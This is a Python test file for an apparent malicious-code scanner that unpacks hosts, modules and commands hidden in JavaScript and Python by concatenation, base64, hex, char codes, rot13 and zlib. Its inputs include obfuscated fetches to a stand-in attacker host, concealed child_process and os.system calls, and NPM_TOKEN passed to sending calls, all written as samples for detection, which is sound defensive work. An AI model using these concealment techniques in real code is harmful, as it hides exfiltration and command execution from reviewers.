"""Constants folded through names, concatenation, templates, joins and decoders (SPEC §4.2).

Positive: each spelling of a host, module or command reaches the facts as its value, with
`built`/`decoded` saying it took work to read. Negative: a name bound more than once, or to
what the user passes in, is not a constant. Budgets: long chains, huge char-code lists and
cycles finish quickly and never raise.
"""

from __future__ import annotations

import base64
import time
import zlib

import pytest

from watcher import gaps
from watcher.parse import Facts, parse_source

HANG = 20.0


def _js(text: str, path: str = "a.js") -> Facts:
    facts = parse_source(path, text)
    assert facts is not None
    return facts


def _py(text: str) -> Facts:
    facts = parse_source("a.py", text)
    assert facts is not None
    return facts


def _built(facts: Facts) -> dict[str, tuple[bool, str | None]]:
    """Folded value → (decoded, key) of every built string."""
    return {s.value: (s.decoded, s.key) for s in facts.strings if s.built}


B64 = base64.b64encode(b"https://collect.attacker.invalid").decode()
HEX = b"https://collect.attacker.invalid".hex()
URL = "https://collect.attacker.invalid"


@pytest.mark.parametrize(
    ("expr", "decoded"),
    [
        ("'https://col' + 'lect.attacker.invalid'", False),
        ("`${'https://'}${'collect.attacker.invalid'}`", False),
        ("['https://', 'collect.', 'attacker.invalid'].join('')", False),
        ("'https://'.concat('collect.attacker.invalid')", False),
        ("String.fromCharCode(" + ", ".join(str(ord(c)) for c in URL) + ")", True),
        ("String.fromCharCode(...[" + ", ".join(str(ord(c)) for c in URL) + "])", True),
        ("String.fromCharCode(" + ", ".join(f"{ord(c) - 1} + 1" for c in URL) + ")", True),
        (f"Buffer.from('{B64}', 'base64').toString()", True),
        (f"Buffer.from('{HEX}', 'hex').toString('utf8')", True),
        (f"atob('{B64}')", True),
        (f"'{URL[::-1]}'.split('').reverse().join('')", True),
        ("decodeURIComponent('https%3A%2F%2Fcollect.attacker.invalid')", True),
    ],
)
def test_js_spellings_fold_to_the_value(expr: str, decoded: bool) -> None:
    facts = _js(f"fetch({expr});\n")
    assert _built(facts)[URL] == (decoded, None)
    assert facts.calls[0].callee == "fetch"
    assert facts.calls[0].first_arg == URL
    assert facts.calls[0].first_arg_built


def test_js_names_bound_once_fold_across_declarations() -> None:
    facts = _js(
        "const a = 'collect.';\n"
        "const h = a + 'attacker.invalid';\n"
        "let u;\n"
        "u = `https://${h}/x`;\n"
        "const opts = { host: h };\n"
        "fetch(u);\n"
        "const m = String.fromCharCode(99, 104, 105, 108, 100, 95,"
        " 112, 114, 111, 99, 101, 115, 115);\n"
        "require(m).exec('id');\n"
        "globalThis[atob('ZXZhbA==')]('1');\n"
    )
    built = _built(facts)
    keyed = {s.key for s in facts.strings if s.built and s.value == "collect.attacker.invalid"}
    assert keyed == {None, "host"}
    assert built["https://collect.attacker.invalid/x"] == (False, None)
    fetch = next(c for c in facts.calls if c.callee == "fetch")
    assert fetch.first_arg == "https://collect.attacker.invalid/x"
    assert [i.module for i in facts.imports] == ["child_process"]
    assert facts.imports[0].concealed
    assert any(c.callee == "child_process.exec" for c in facts.calls)
    evaled = next(c for c in facts.calls if c.callee == "eval")
    assert evaled.concealed


def test_js_object_property_value_is_keyed() -> None:
    facts = _js("send({ bcc: 'phan@' + 'metrics-hub.invalid' });\n")
    assert _built(facts)["phan@metrics-hub.invalid"] == (False, "bcc")


@pytest.mark.parametrize(
    "source",
    [
        # Reassigned in a loop: not a constant.
        "let n = 'a';\nfor (const i of xs) { n += 'b'; }\nexec(n);\n",
        "let n = 'a';\nwhile (x) { n = n + 'b'; }\nexec(n);\n",
        "let n = 'a';\nn = 'b';\nexec(n);\n",
        # What the user passes in is not a constant.
        "function f(req) { const q = req.query.host; fetch(q); }\n",
        "function f(q) { fetch(q); }\nconst q = 'https://x.invalid';\n",
        "const q = process.argv[2];\nfetch(q);\n",
        "const q = prompt();\nfetch('https://' + q);\n",
    ],
)
def test_js_honest_code_is_not_folded(source: str) -> None:
    facts = _js(source)
    sink = next(c for c in facts.calls if c.callee in ("exec", "fetch"))
    assert sink.first_arg is None
    assert not any(s.built for s in facts.strings)


def test_js_plain_literal_through_a_name_is_not_concealment() -> None:
    facts = _js("const cp = 'child_process';\nrequire(cp);\n")
    assert [(i.module, i.concealed) for i in facts.imports] == [("child_process", False)]
    assert not any(s.built for s in facts.strings)


PY_URL_ZLIB = zlib.compress(URL.encode()).hex()


@pytest.mark.parametrize(
    ("expr", "decoded"),
    [
        ("'https://col' + 'lect.attacker.invalid'", False),
        ("f\"https://{'collect'}.{'attacker.invalid'}\"", False),
        ("''.join(['https://', 'collect.', 'attacker.invalid'])", False),
        (f"bytes.fromhex({HEX!r}).decode()", True),
        (f"__import__('base64').b64decode({B64!r}).decode()", True),
        (f"base64.b64decode({B64!r}.encode()).decode()", True),
        ("codecs.decode('uggcf://pbyyrpg.nggnpxre.vainyvq', 'rot13')", True),
        (f"__import__('zlib').decompress(bytes.fromhex({PY_URL_ZLIB!r})).decode()", True),
        (f"zlib.decompress(bytes.fromhex({PY_URL_ZLIB!r})).decode()", True),
        ("''.join(chr(c) for c in [" + ", ".join(str(ord(c)) for c in URL) + "])", True),
        (" + ".join(f"chr({ord(c)})" for c in URL), True),
        (f"{URL[::-1]!r}[::-1]", True),
        (f"codecs.decode({HEX!r}, 'hex').decode()", True),
    ],
)
def test_python_spellings_fold_to_the_value(expr: str, decoded: bool) -> None:
    facts = _py(f"import base64, codecs, zlib\nimport requests\nrequests.get({expr})\n")
    assert _built(facts)[URL] == (decoded, None)
    get = next(c for c in facts.calls if c.callee == "requests.get")
    assert get.first_arg == URL
    assert get.first_arg_built


def test_python_names_bound_once_fold_in_module_and_function_scope() -> None:
    facts = _py(
        "import os\n"
        "M = bytes.fromhex('6f73').decode()\n"
        "def run():\n"
        "    k = 'sys' + 'tem'\n"
        "    getattr(__import__(M), k)('id')\n"
        "    h = 'collect.' + 'attacker.invalid'\n"
        "    ftp(host=h)\n"
        "    opts = {'host': ''.join(['a.', 'invalid'])}\n"
    )
    assert any(c.callee == "os.system" and c.concealed for c in facts.calls)
    assert any(i.module == "os" and i.concealed for i in facts.imports)
    built = _built(facts)
    assert built["a.invalid"] == (False, "host")
    keyed = {s.key for s in facts.strings if s.built and s.value == "collect.attacker.invalid"}
    assert keyed == {None, "host"}


@pytest.mark.parametrize(
    "source",
    [
        "n = 'a'\nfor i in range(3):\n    n += 'b'\nsubprocess.run(n)\n",
        "n = 'a'\nn = 'b'\nsubprocess.run(n)\n",
        "for n in ['a', 'b']:\n    subprocess.run(n)\n",
        "def f(n):\n    subprocess.run(n)\nn = 'ls'\n",
        "n = input()\nsubprocess.run(n)\n",
        "n = sys.argv[1]\nsubprocess.run('echo ' + n)\n",
    ],
)
def test_python_honest_code_is_not_folded(source: str) -> None:
    facts = _py("import subprocess, sys\n" + source)
    run = next(c for c in facts.calls if c.callee == "subprocess.run")
    assert run.first_arg is None
    assert not any(s.built for s in facts.strings)


def test_invalid_encodings_are_left_alone() -> None:
    facts = _py("import base64\nx = base64.b64decode('not base64!!').decode()\n")
    assert not any(s.built for s in facts.strings)
    facts = _js("atob('not base64!!');\n")
    assert not any(s.built for s in facts.strings)


# -- budgets ----------------------------------------------------------------------------------


def _timed(path: str, text: str) -> tuple[Facts | None, list[gaps.Gap], float]:
    start = time.monotonic()
    with gaps.collecting() as found:
        facts = parse_source(path, text)
    return facts, list(found), time.monotonic() - start


def test_js_ten_thousand_deep_assignment_chain_is_linear() -> None:
    lines = ["const a0 = 'collect.attacker.invalid';"]
    lines += [f"const a{i} = a{i - 1};" for i in range(1, 10_000)]
    lines.append("fetch(a9999);")
    facts, found, seconds = _timed("a.js", "\n".join(lines) + "\n")
    assert seconds < HANG
    assert facts is not None and not found
    assert facts.calls[-1].first_arg == "collect.attacker.invalid"


def test_python_ten_thousand_deep_assignment_chain_is_linear() -> None:
    lines = ["a0 = 'collect.attacker.invalid'"]
    lines += [f"a{i} = a{i - 1}" for i in range(1, 10_000)]
    lines.append("fetch(a9999)")
    facts, found, seconds = _timed("a.py", "\n".join(lines) + "\n")
    assert seconds < HANG
    assert facts is not None and not found
    assert facts.calls[-1].first_arg == "collect.attacker.invalid"


def test_doubling_concatenation_is_capped() -> None:
    lines = ["const a0 = 'xxxxxxxx';"]
    lines += [f"const a{i} = a{i - 1} + a{i - 1};" for i in range(1, 200)]
    lines.append("fetch(a199);")
    facts, _, seconds = _timed("a.js", "\n".join(lines) + "\n")
    assert seconds < HANG
    assert facts is not None and facts.calls[-1].first_arg is None
    py = ["a0 = 'xxxxxxxx'"] + [f"a{i} = a{i - 1} + a{i - 1}" for i in range(1, 200)]
    facts, _, seconds = _timed("a.py", "\n".join([*py, "fetch(a199)"]) + "\n")
    assert seconds < HANG
    assert facts is not None and facts.calls[-1].first_arg is None


def test_hundred_thousand_char_codes_finish_and_are_not_folded() -> None:
    codes = ", ".join(["104"] * 100_000)
    facts, _, seconds = _timed("a.js", f"fetch(String.fromCharCode({codes}));\n")
    assert seconds < HANG
    assert facts is not None
    assert facts.calls[0].first_arg is None
    facts, _, seconds = _timed("b.js", f"fetch(String.fromCharCode(...[{codes}]));\n")
    assert seconds < HANG
    assert facts is not None


def test_python_zlib_bomb_is_capped() -> None:
    bomb = zlib.compress(b"a" * 10_000_000, 9).hex()
    facts, _, seconds = _timed(
        "a.py", f"import zlib\nfetch(zlib.decompress(bytes.fromhex({bomb!r})).decode())\n"
    )
    assert seconds < HANG
    assert facts is not None
    assert next(c for c in facts.calls if c.callee == "fetch").first_arg is None


@pytest.mark.parametrize(
    ("path", "source"),
    [
        ("a.js", "var a = b;\nvar b = a;\nfetch(a);\nfetch(a + b);\n"),
        ("a.js", "const a = [...b];\nconst b = [...a];\nfetch(a.join(''));\n"),
        ("a.py", "a = b\nb = a\nfetch(a)\nfetch(a + b)\n"),
        ("a.py", "a = ''.join(b)\nb = [a]\nfetch(a)\n"),
    ],
)
def test_cycles_stop(path: str, source: str) -> None:
    facts, found, seconds = _timed(path, source)
    assert seconds < HANG
    assert facts is not None and not found
    assert all(c.first_arg is None for c in facts.calls if c.callee == "fetch")


def test_python_keyword_and_dict_values_through_names_are_keyed() -> None:
    facts = _py("H = 'collect.attacker.invalid'\nftp(host=H)\nopts = {'hostname': H}\n")
    keyed = {s.key for s in facts.strings if s.value == "collect.attacker.invalid"}
    assert keyed == {None, "host", "hostname"}


@pytest.mark.parametrize(
    "source",
    [
        "fetch(x - 1 + " + " + ".join(["'a'"] * 5000) + ");\n",
        "fetch(y + " + " + ".join(["'a'"] * 5000) + ");\n",
        "const z = " + " * ".join(["2"] * 5000) + ";\nfetch(z);\n",
    ],
)
def test_long_chains_that_do_not_fold_are_walked_once(source: str) -> None:
    facts, _, seconds = _timed("a.js", source)
    assert seconds < 5.0
    assert facts is not None
    assert facts.calls[0].first_arg is None


def test_nested_sending_calls_are_read_once_each() -> None:
    """Secrets under nested sending calls (`a.get(a.get(…))`) are read once per node, not once
    per enclosing call: 200 lines of 150 nested calls are no gap and no hang."""
    nested = "a.get(" * 150 + "process.env.NPM_TOKEN" + ")" * 150 + ";\n"
    facts, found, seconds = _timed("a.js", nested * 200)
    assert seconds < HANG
    assert facts is not None and not found
    assert all(call.arg_sources == ("env:NPM_TOKEN",) for call in facts.calls)
    py_nested = "a.get(" * 90 + "os.environ['NPM_TOKEN']" + ")" * 90 + "\n"
    facts, found, seconds = _timed("a.py", "import os\n" + py_nested * 200)
    assert seconds < HANG
    assert facts is not None and not found
    sending = [c for c in facts.calls if c.callee.endswith(".get")]
    assert sending and all(c.arg_sources == ("env:NPM_TOKEN",) for c in sending)
